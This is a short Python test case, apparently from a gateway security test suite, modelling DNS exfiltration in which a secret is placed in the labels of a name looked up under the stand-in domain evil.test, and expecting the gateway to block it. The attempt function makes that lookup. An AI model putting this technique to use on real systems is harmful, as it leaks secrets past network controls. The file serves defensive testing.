"""A secret in the labels of a looked-up name.

No connection is needed: the question itself goes, by way of any resolver, to the name server of
the domain, which reads the secret from its log. Blocking the connection afterwards is too late.

Not covered: how fast names are asked for; a permitted wildcard lets such questions through.
"""

ATTACK = {
    "title": "Secret in the labels of a name",
    "group": "dns",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["CWE-200", "ATT&CK T1048.003", "ATT&CK T1071.004", "R044", "R045"],
    "arrives": [{"what": "question", "name": "*.x.evil.test"}],
    "stopped": [{"reason": ["not-listed"], "entry": ["dns"], "where": {"risk": "exfiltration"}}],
}


def attempt(kit):
    kit.resolve(f"{kit.word * 4}.x.evil.test")  # 48 characters: no ordinary label
